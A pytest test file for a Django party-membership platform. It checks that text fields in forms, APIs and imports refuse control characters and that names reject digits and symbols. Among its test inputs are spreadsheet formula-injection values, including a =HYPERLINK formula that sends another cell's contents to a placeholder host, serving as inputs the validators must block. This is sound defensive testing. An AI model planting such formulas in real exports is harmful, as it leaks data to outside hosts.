"""Free text refuses control characters and names are names, on every way in: forms, API and imports.

One `\\x1b` in a member's name made the town's member export fail for everyone; a name
`=HYPERLINK(...)` was accepted and exported as a live formula.
"""

import datetime as dt
import importlib

import pytest
from django import forms
from django.apps import apps
from django.db import models
from django.utils import timezone

from dangjian.core.validators import NoControlCharacters, PersonName, control_problem, name_problem
from dangjian.members.models import Member

from .sheets import valid_id

# Text fields that are not typed as free text, and what checks them instead.
NOT_FREE_TEXT = {
    "meetings.Activity.kind": "a code from the rule file, checked against it",
    "meetings.Record.kind": "a code from the rule file, checked against it",
    "meetings.Record.content_type": "set by the upload check from the file's content",
    "discipline.Sanction.document_type": "set by the upload check from the file's content",
    "members.Member.ethnicity": "one of the listed ethnicities",
    "members.Member.id_number": "checked as an ID number (GB 11643)",
    "members.Member.phone": "checked as a mobile number",
    "recruitment.Applicant.id_number": "checked as an ID number (GB 11643)",
    "recruitment.Applicant.phone": "checked as a mobile number",
    "recruitment.StepRecord.code": "a step code from the steps file, checked against it",
    "recruitment.StepDocument.kind": "a document code from the steps file, checked against it",
    "recruitment.StepDocument.content_type": "set by the upload check from the file's content",
    "orgs.Organisation.code": "a slug",
    "evaluations.Disposal.measure": "a code from the rule file, checked against it",
    "evaluations.VoterRight.code_hash": "a digest written by the code",
    "accounts.User.username": "Django's username validator",
    "accounts.User.first_name": "Django's own field; accounts show the member's name",
    "accounts.User.last_name": "Django's own field; accounts show the member's name",
    "accounts.User.email": "an e-mail address",
    "accounts.User.password": "a password hash",
    "supervision.PhotoHash.phash": "a hash computed from the stored photo",
    "supervision.Signal.fingerprint": "written by the signals engine",
    "supervision.Signal.period": "written by the signals engine",
    "supervision.Signal.summary": "written by the signals engine",
    "supervision.Round.settings_version": "the version of the rounds data file",
    "supervision.ChecklistItem.rule": "a code from the rule file, checked against it",
    "supervision.ChecklistItem.records": "the record names of the rule file",
    "supervision.ChecklistItem.leaders": "the position titles of the rule file",
    "supervision.Attachment.content_type": "set by the upload check from the file's content",
    "assessment.YearState.scheme_version": "written at the 定稿 from the published scheme",
    "assessment.YearState.scheme_text": "copied at the 定稿 from a scheme checked when published",
    "assessment.FrozenSheet.grade": "a grade code written by the scoring",
    "assessment.Entry.indicator": "an indicator code checked against the scheme before saving",
    "assessment.Correction.indicator": "an indicator code checked against the scheme before saving",
    "assessment.Objection.indicator": "an indicator code checked against the scheme before saving",
    "assessment.SurveyRight.code_hash": "a keyed hash written by the platform",
    "assessment.SurveyCount.question": "a question code written at the survey's close",
    "assessment.SurveyCount.choice": "a choice code written at the survey's close",
    "assessment.Accountability.form": "a form code checked against data/accountability.toml",
}
# The notifications app stores what the platform writes itself (titles, bodies, links, errors) and
# channels the administrator configures in the admin site.
NOT_TYPED_APPS = {"notifications"}


def _typed_text_fields():
    for model in apps.get_models():
        label = model._meta.app_label
        if not model.__module__.startswith("dangjian.") and label != "accounts":
            continue
        if model.__name__.startswith("Historical") or label in NOT_TYPED_APPS:
            continue
        for field in model._meta.get_fields():
            if not isinstance(field, models.CharField | models.TextField) or not field.editable:
                continue
            if field.choices or f"{label}.{model.__name__}.{field.name}" in NOT_FREE_TEXT:
                continue
            yield f"{label}.{model.__name__}.{field.name}", field


def test_every_typed_text_field_refuses_control_characters():
    fields = dict(_typed_text_fields())
    assert len(fields) > 30  # the walk found the models
    missing, wrong = [], []
    for name, field in fields.items():
        checks = [v for v in field.validators if isinstance(v, NoControlCharacters | PersonName)]
        if not checks:
            missing.append(name)
        elif isinstance(field, models.TextField) != any(getattr(v, "multiline", False) for v in checks):
            wrong.append(name)  # text areas allow line breaks, one-line fields do not
    assert missing == [] and wrong == []


def test_every_form_text_field_outside_a_model_refuses_control_characters():
    unchecked = []
    for config in apps.get_app_configs():
        if not config.name.startswith("dangjian."):
            continue
        try:
            module = importlib.import_module(f"{config.name}.forms")
        except ModuleNotFoundError:
            continue
        for form in vars(module).values():
            if not (
                isinstance(form, type)
                and issubclass(form, forms.BaseForm)
                and form.__module__ == module.__name__
            ):
                continue
            model = getattr(getattr(form, "_meta", None), "model", None)
            for name, field in form.base_fields.items():
                if not isinstance(field, forms.CharField) or isinstance(field, forms.ModelChoiceField):
                    continue
                if model is not None and name in {f.name for f in model._meta.fields}:
                    continue  # the model field's validators run in the form (the test above)
                if not any(isinstance(v, NoControlCharacters | PersonName) for v in field.validators):
                    unchecked.append(f"{form.__name__}.{name}")
    assert unchecked == []


@pytest.mark.parametrize(
    "char", ["\x00", "\x1b", "\x13", "\x0b", "\x7f", "\x85", "\u202e", "\ud800", "\uffff"]
)
def test_control_characters_are_refused_everywhere(char):
    assert control_problem(f"甲{char}乙") is not None
    assert control_problem(f"甲{char}乙", multiline=True) is not None


def test_line_breaks_and_tabs_only_in_multi_line_text():
    for text in ("一\n二", "一\r\n二", "一\t二", "一\u2028二"):
        assert control_problem(text) == "不能换行或含制表符（第2个字符），请写在一行内。"
    assert control_problem("一\r\n二\t三", multiline=True) is None


@pytest.mark.parametrize(
    "name", ["张三", "阿依古丽·买买提", "𠀾明", "欧阳𪚥", "Jean-Pierre", "O'Brien", "José", "李〇"]
)
def test_names_of_every_kind_are_names(name):
    assert name_problem(name) is None


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://x/?"&B2,"王")',
        "+86张三",
        "-张三",
        "@张三",
        "张三1",
        "张三（党员）",
        "·张三",
        "张三·",
        "张··三",
        "张\u3000三",
    ],
)
def test_formulas_digits_and_symbols_are_not_names(name):
    assert name_problem(name) is not None


def _member_post(world, **changes) -> dict:
    m = world.members_a[0]
    data = {
        "name": "王新",
        "id_number": valid_id("19900101", 3),
        "gender": "M",
        "ethnicity": "汉族",
        "birth_date": "1990-01-01",
        "phone": "",
        "education": "",
        "work_unit": "",
        "joined_on": "2015-07-01",
        "confirmed_on": "2016-07-01",
        "category": "full",
        "org": m.org_id,
    }
    data.update(changes)
    return data


@pytest.mark.django_db
@pytest.mark.parametrize(
    "field, value, message",
    [
        ("name", '=HYPERLINK("http://x/?"&B2,"王")', "不能有数字或符号（第1个字符“=”）"),
        ("name", "王\x1b新", "姓名含有不可见的控制字符（第2个字符，U+001B）"),
        ("work_unit", "镇政府\x0b科员", "含有不可见的控制字符（第4个字符，U+000B）"),
        ("work_unit", "镇政府\n科员", "不能换行或含制表符"),
    ],
)
def test_member_form_refuses(world, client_for, field, value, message):
    before = Member.objects.count()
    page = client_for("secretary_a").post("/members/new/", _member_post(world, **{field: value}))
    assert page.status_code == 200 and message in page.content.decode()
    assert Member.objects.count() == before


@pytest.mark.django_db
def test_member_form_accepts_a_minority_name(world, client_for):
    page = client_for("secretary_a").post("/members/new/", _member_post(world, name="阿依古丽·买买提"))
    assert page.status_code == 302 and Member.objects.filter(name="阿依古丽·买买提").exists()


@pytest.mark.django_db
def test_api_leave_refuses_control_characters(world, client_for):
    from dangjian.meetings.models import Attendance
    from tests.meetings.helpers import make_activity

    activity = make_activity(world.branch_a)
    client = client_for("member_a")
    url = f"/api/meetings/{activity.pk}/leave"
    for reason in ("外出\x1b务工", "外出\n务工"):
        response = client.post(url, {"reason": reason}, content_type="application/json")
        assert response.status_code == 422
        assert "控制字符" in response.json()["detail"][0]["msg"]
    page = client.post(f"/meetings/{activity.pk}/leave/", {"reason": "外出\x13务工"}, follow=True)
    assert "控制字符" in page.content.decode()
    assert not Attendance.objects.filter(activity=activity).exclude(leave_reason="").exists()


@pytest.mark.django_db
def test_api_talk_and_sanction_refuse_control_characters(world, client_for):
    from dangjian.discipline.models import Sanction
    from dangjian.talks.models import Talk

    client = client_for("secretary_a")
    a = world.members_a
    yesterday = (timezone.localdate() - dt.timedelta(days=1)).isoformat()
    talk = {"org": "BRA", "initiator_id": a[0].pk, "partner_id": a[5].pk, "talked_on": yesterday}
    response = client.post("/api/talks/", {**talk, "topics": "谈\x1b思想"}, content_type="application/json")
    assert response.status_code == 400 and "控制字符" in response.json()["errors"]["topics"][0]
    sanction = {
        "org": "BRA",
        "member_id": a[2].pk,
        "level": "warning",
        "decided_on": yesterday,
        "decided_by": "镇纪委\x13",
        "facts": "事\x0b实",
    }
    response = client.post("/api/discipline/", sanction, content_type="application/json")
    assert response.status_code == 400
    assert set(response.json()["errors"]) >= {"decided_by", "facts"}
    assert not Talk.objects.exists() and not Sanction.objects.exists()
    # line breaks stay allowed in text areas
    response = client.post(
        "/api/talks/", {**talk, "topics": "一、思想\n二、工作"}, content_type="application/json"
    )
    assert response.status_code == 201, response.json()


@pytest.mark.django_db
def test_api_self_evaluation_and_ballot_refuse_control_characters(world, client_for):
    from dangjian.evaluations.models import Ballot
    from tests.evaluations.helpers import full_ballot, open_campaign

    campaign = open_campaign(world)
    member = client_for("member_a")
    body = {
        "grades": [{"member_id": m, "grade": "qualified", "comment": "好\x1b"} for m in full_ballot(campaign)]
    }
    api = member.post(f"/api/evaluations/{campaign.pk}/ballot", body, content_type="application/json")
    assert api.status_code == 400 and "控制字符" in api.json()["detail"]
    self_api = member.post(
        f"/api/evaluations/{campaign.pk}/self", {"study": "学\u202e习"}, content_type="application/json"
    )
    assert self_api.status_code == 400 and "控制字符" in self_api.json()["detail"]
    assert not Ballot.objects.exists() and not campaign.self_evaluations.exists()


@pytest.mark.django_db
def test_a_name_registered_before_the_check_is_kept_until_it_is_changed(world, client_for):
    member = world.members_a[7]  # the test world's 甲7
    client = client_for("secretary_a")
    data = _member_post(world, id_number=member.id_number, birth_date=member.birth_date.isoformat())
    data.update(gender=member.gender, joined_on=member.joined_on.isoformat(), status=member.status)
    data.update(confirmed_on=member.confirmed_on.isoformat() if member.confirmed_on else "")
    data.update(category=member.category, group=member.group_id or "")
    kept = client.post(f"/members/{member.pk}/edit/", {**data, "name": "甲7", "work_unit": "镇政府"})
    assert kept.status_code == 302
    changed = client.post(f"/members/{member.pk}/edit/", {**data, "name": "甲8"})
    assert "不能有数字或符号" in changed.content.decode()
    member.refresh_from_db()
    assert (member.name, member.work_unit) == ("甲7", "镇政府")
